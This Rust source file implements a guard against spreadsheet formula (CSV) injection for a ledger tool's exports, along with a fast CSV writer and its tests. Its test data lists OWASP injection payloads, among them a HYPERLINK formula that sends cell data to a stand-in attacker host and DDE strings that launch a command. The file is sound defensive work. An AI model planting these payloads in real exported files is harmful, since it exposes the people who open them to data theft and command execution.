//! Spreadsheet formula injection (OWASP "CSV injection"): the one guard every
//! CSV fundledger writes applies to its text cells — the audit trail, the
//! reconciliation report, the balance list. A cell an officer opens in Excel
//! must never run as a formula, whatever a bureau's file put in a voucher
//! number, a document number or a project name.

use std::borrow::Cow;
use std::io::{self, Write};

/// A text cell starting with `=`, `+`, `-`, `@`, tab or CR is prefixed with
/// `'`, so a spreadsheet shows it as text. Amount cells never pass through
/// here: `-5000.00` must stay a number.
pub(crate) fn guard_cell(text: &str) -> Cow<'_, str> {
    match needs_guard(text) {
        true => Cow::Owned(format!("'{text}")),
        false => Cow::Borrowed(text),
    }
}

/// Guards every cell of a record except the amount columns (by index).
pub fn guard_record<S: AsRef<str>>(cells: &[S], amount_columns: &[usize]) -> Vec<String> {
    cells
        .iter()
        .enumerate()
        .map(|(i, c)| {
            if amount_columns.contains(&i) {
                c.as_ref().to_string()
            } else {
                guard_cell(c.as_ref()).into_owned()
            }
        })
        .collect()
}

/// The CSV writer's buffer: what it hands its output at a time (at least).
const CSV_BUFFER_BYTES: usize = 256 * 1024;

/// How a CSV document ends its lines.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum LineEnd {
    /// `\n`: the reconcile and balance documents (SPEC §5).
    Lf,
    /// `\r\n`: the audit trail (RFC 4180, for Excel).
    CrLf,
}

/// The one CSV writer of every CSV fundledger writes: the header as given,
/// then records whose cells pass [`guard_cell`], except the `verbatim`
/// columns (amounts, counts, dates, hashes fundledger renders itself), which
/// are written as they are so `-5000.00` stays a number.
///
/// The bytes are those of the `csv` crate's writer with its defaults
/// (`QuoteStyle::Necessary`, quotes doubled), which every CSV was first
/// written with and which the tests keep as the oracle: a field is quoted
/// when it holds a comma, a quote, CR or LF; a record of one empty field is
/// `""`. Records are encoded here, into one buffer, because the audit trail
/// is gigabytes: `csv_core` copies and checks a field a byte at a time, a
/// quarter of a 1M-voucher trail's writing thread (ADR 0005).
pub(crate) struct GuardedCsv<W: Write> {
    out: W,
    /// Encoded records not yet handed to `out`.
    buf: Vec<u8>,
    terminator: &'static [u8],
    /// Bit `i` set: column `i` is verbatim (a bit test per cell, not a
    /// search of the list: the trail encodes 25 cells per entry).
    verbatim: u64,
    /// The header's width: every record has as many cells (as the `csv`
    /// crate's writer refuses a record of another length).
    width: usize,
}

impl<W: Write> GuardedCsv<W> {
    pub(crate) fn new(
        out: W,
        line_end: LineEnd,
        header: &[&str],
        verbatim: &'static [usize],
    ) -> io::Result<GuardedCsv<W>> {
        let terminator: &'static [u8] = match line_end {
            LineEnd::Lf => b"\n",
            LineEnd::CrLf => b"\r\n",
        };
        assert!(header.len() <= 64, "a CSV of at most 64 columns");
        let verbatim = verbatim.iter().fold(0u64, |mask, &column| {
            assert!(column < 64, "verbatim column {column} past 64");
            mask | 1 << column
        });
        let mut csv = GuardedCsv {
            out,
            buf: Vec::with_capacity(CSV_BUFFER_BYTES + 4096),
            terminator,
            verbatim,
            width: header.len(),
        };
        // Header names are never guarded.
        for (column, name) in header.iter().enumerate() {
            encode_cell(&mut csv.buf, u64::MAX, column, name);
        }
        csv.end_record(0)?;
        Ok(csv)
    }

    pub(crate) fn write_record<S: AsRef<str>>(&mut self, cells: &[S]) -> io::Result<()> {
        let cells: Vec<&str> = cells.iter().map(AsRef::as_ref).collect();
        self.write_cells(&cells)
    }

    /// [`GuardedCsv::write_record`] of borrowed cells, each guarded in
    /// place: no `String` per cell (the trail writes 21 per posting).
    pub(crate) fn write_cells(&mut self, cells: &[&str]) -> io::Result<()> {
        if cells.len() != self.width {
            return Err(io::Error::new(
                io::ErrorKind::InvalidInput,
                format!(
                    "CSV record of {} cell(s) after a header of {}",
                    cells.len(),
                    self.width
                ),
            ));
        }
        let start = self.buf.len();
        for (column, cell) in cells.iter().enumerate() {
            encode_cell(&mut self.buf, self.verbatim, column, cell);
        }
        self.end_record(start)
    }

    /// Appends cell `column` of a record to `to` as [`GuardedCsv::write_cells`]
    /// writes it (the comma before it included), for a record written later
    /// by [`GuardedCsv::write_encoded`]: cells that repeat on many records
    /// (an entry's, on each of its postings) are encoded once.
    pub(crate) fn encode_cell(&self, to: &mut Vec<u8>, column: usize, cell: &str) {
        assert!(column < self.width, "column {column} of {}", self.width);
        encode_cell(to, self.verbatim, column, cell);
    }

    /// Writes one record from pieces [`GuardedCsv::encode_cell`] made, every
    /// column in order: the same bytes as `write_cells` of its cells.
    pub(crate) fn write_encoded(&mut self, pieces: &[&[u8]]) -> io::Result<()> {
        let start = self.buf.len();
        for piece in pieces {
            self.buf.extend_from_slice(piece);
        }
        self.end_record(start)
    }

    /// Ends the record pushed from `start` on; hands the buffer to `out`
    /// once full.
    fn end_record(&mut self, start: usize) -> io::Result<()> {
        // A line with nothing on it (one empty cell) would read back as no
        // record at all: the `csv` crate writes `""` there.
        if self.buf.len() == start {
            self.buf.extend_from_slice(b"\"\"");
        }
        self.buf.extend_from_slice(self.terminator);
        if self.buf.len() >= CSV_BUFFER_BYTES {
            self.out.write_all(&self.buf)?;
            self.buf.clear();
        }
        Ok(())
    }

    /// Flushes and hands back the output.
    pub(crate) fn into_inner(mut self) -> io::Result<W> {
        self.out.write_all(&self.buf)?;
        self.buf.clear();
        self.out.flush()?;
        Ok(self.out)
    }
}

/// Appends cell `column`: the comma before it, then the cell, guarded unless
/// its column is `verbatim`, quoted when it must be. The guard's `'` never
/// needs quoting, so the cell's own text decides (and the `'` goes inside
/// the quotes, as in `"'=1,2"`).
fn encode_cell(to: &mut Vec<u8>, verbatim: u64, column: usize, cell: &str) {
    if column > 0 {
        to.push(b',');
    }
    let guard: &[u8] = match verbatim & 1 << column == 0 && needs_guard(cell) {
        true => b"'",
        false => b"",
    };
    let text = cell.as_bytes();
    if !needs_quotes(text) {
        to.extend_from_slice(guard);
        to.extend_from_slice(text);
        return;
    }
    to.push(b'"');
    to.extend_from_slice(guard);
    for (n, part) in text.split(|&b| b == b'"').enumerate() {
        if n > 0 {
            to.extend_from_slice(b"\"\"");
        }
        to.extend_from_slice(part);
    }
    to.push(b'"');
}

/// Whether [`guard_cell`] would prefix `text` (its first character is one of
/// the formula starters, all ASCII), without building the guarded text.
fn needs_guard(text: &str) -> bool {
    matches!(
        text.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// Whether a field must be quoted: it holds a comma, a quote, CR or LF.
/// Long fields (the trail's details and hashes) are searched by `memchr`
/// with vector instructions; short ones byte by byte, cheaper than a call.
fn needs_quotes(text: &[u8]) -> bool {
    let special = |b: &u8| matches!(b, b',' | b'"' | b'\r' | b'\n');
    match text.len() < 32 {
        true => text.iter().any(special),
        false => {
            memchr::memchr3(b',', b'"', b'\n', text).is_some()
                || memchr::memchr(b'\r', text).is_some()
        }
    }
}

/// A small CSV document in memory, `\n` line ends, no BOM.
pub fn csv_to_string<R: AsRef<[S]>, S: AsRef<str>>(
    header: &[&str],
    rows: impl IntoIterator<Item = R>,
    verbatim: &'static [usize],
) -> String {
    let mut w =
        GuardedCsv::new(Vec::new(), LineEnd::Lf, header, verbatim).expect("write to memory");
    for row in rows {
        w.write_record(row.as_ref()).expect("write to memory");
    }
    String::from_utf8(w.into_inner().expect("flush to memory"))
        .expect("CSV of UTF-8 strings is UTF-8")
}

/// The OWASP CSV-injection payloads (and the prefixes they rely on), for
/// every writer's tests.
pub const OWASP_PAYLOADS: [&str; 10] = [
    "=2+3",
    "=EVIL〔2021〕1号",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+2+3",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=1+2\";=1+2",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn guards_every_owasp_payload_and_nothing_else() {
        let check = |input: &str, want: &str| assert_eq!(guard_cell(input), want, "{input:?}");
        for p in OWASP_PAYLOADS {
            check(p, &format!("'{p}"));
        }
        check("粤财社〔2021〕12号", "粤财社〔2021〕12号");
        check("GZ21032001", "GZ21032001");
        check("'=1", "'=1");
        check(" =1", " =1");
        check("", "");
    }

    #[test]
    fn amount_columns_are_never_altered() {
        let got = guard_record(&["-5000.00", "=1+2", "-1"], &[0]);
        assert_eq!(got, ["-5000.00", "'=1+2", "'-1"]);
    }

    /// `GuardedCsv`'s bytes for a header and records, and what the `csv`
    /// crate's writer (the first writer of every CSV here) makes of the same
    /// header and guarded records: the oracle.
    fn encoded_and_oracle(
        line_end: LineEnd,
        header: &[String],
        records: &[Vec<String>],
        verbatim: &'static [usize],
    ) -> (Vec<u8>, Vec<u8>) {
        let names: Vec<&str> = header.iter().map(String::as_str).collect();
        let mut ours = GuardedCsv::new(Vec::new(), line_end, &names, verbatim).unwrap();
        let terminator = match line_end {
            LineEnd::Lf => csv::Terminator::Any(b'\n'),
            LineEnd::CrLf => csv::Terminator::CRLF,
        };
        let mut oracle = csv::WriterBuilder::new()
            .terminator(terminator)
            .from_writer(Vec::new());
        oracle.write_record(header).unwrap();
        for r in records {
            ours.write_record(r).unwrap();
            oracle.write_record(guard_record(r, verbatim)).unwrap();
        }
        (ours.into_inner().unwrap(), oracle.into_inner().unwrap())
    }

    #[test]
    fn records_are_encoded_as_the_csv_crate_encodes_them() {
        let check = |header: &[&str], records: &[&[&str]], want: &str| {
            let header: Vec<String> = header.iter().map(|c| c.to_string()).collect();
            let records: Vec<Vec<String>> = records
                .iter()
                .map(|r| r.iter().map(|c| c.to_string()).collect())
                .collect();
            let (got, oracle) = encoded_and_oracle(LineEnd::CrLf, &header, &records, &[1]);
            assert_eq!(String::from_utf8(got.clone()).unwrap(), want);
            assert_eq!(got, oracle, "{records:?}");
        };
        check(&["a", "b"], &[&["x", "-1.00"]], "a,b\r\nx,-1.00\r\n");
        check(&["a", "b"], &[&["-x", "y,z"]], "a,b\r\n'-x,\"y,z\"\r\n");
        check(
            &["a", "b"],
            &[&["=\"q\"", ""]],
            "a,b\r\n\"'=\"\"q\"\"\",\r\n",
        );
        check(
            &["a", "b"],
            &[&["\r=1", "l\nf"]],
            "a,b\r\n\"'\r=1\",\"l\nf\"\r\n",
        );
        check(&["a", "b"], &[&["", ""]], "a,b\r\n,\r\n");
        check(&["a"], &[&[""], &["x"]], "a\r\n\"\"\r\nx\r\n");
        check(
            &["a"],
            &[&["0123456789abcdef,0123"]],
            "a\r\n\"0123456789abcdef,0123\"\r\n",
        );
    }

    /// A record of another width than the header is refused, as the `csv`
    /// crate's writer refuses it, and nothing of it is written.
    #[test]
    fn a_record_of_another_width_is_refused() {
        let mut w = GuardedCsv::new(Vec::new(), LineEnd::Lf, &["a", "b"], &[]).unwrap();
        let err = w.write_cells(&["only one"]).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::InvalidInput);
        assert!(
            err.to_string().contains("1 cell(s) after a header of 2"),
            "{err}"
        );
        assert!(w.write_cells(&["x", "y", "z"]).is_err());
        assert_eq!(w.into_inner().unwrap(), b"a,b\n");
    }

    fn any_cell() -> impl proptest::strategy::Strategy<Value = String> {
        "[a-z0-9 =+@,\"'\t\r\n;|\u{4e2d}\u{3014}-]{0,40}"
    }

    proptest::proptest! {
        #[test]
        fn any_records_are_encoded_as_the_csv_crate_encodes_them(
            width in 1usize..4,
            crlf in proptest::bool::ANY,
            cells in proptest::collection::vec(any_cell(), 0..24),
        ) {
            let line_end = if crlf { LineEnd::CrLf } else { LineEnd::Lf };
            let header: Vec<String> = (0..width).map(|i| format!("h{i}")).collect();
            let records: Vec<Vec<String>> = cells.chunks_exact(width).map(<[String]>::to_vec).collect();
            let (got, oracle) = encoded_and_oracle(line_end, &header, &records, &[0]);
            proptest::prop_assert_eq!(got, oracle);
        }
    }
}
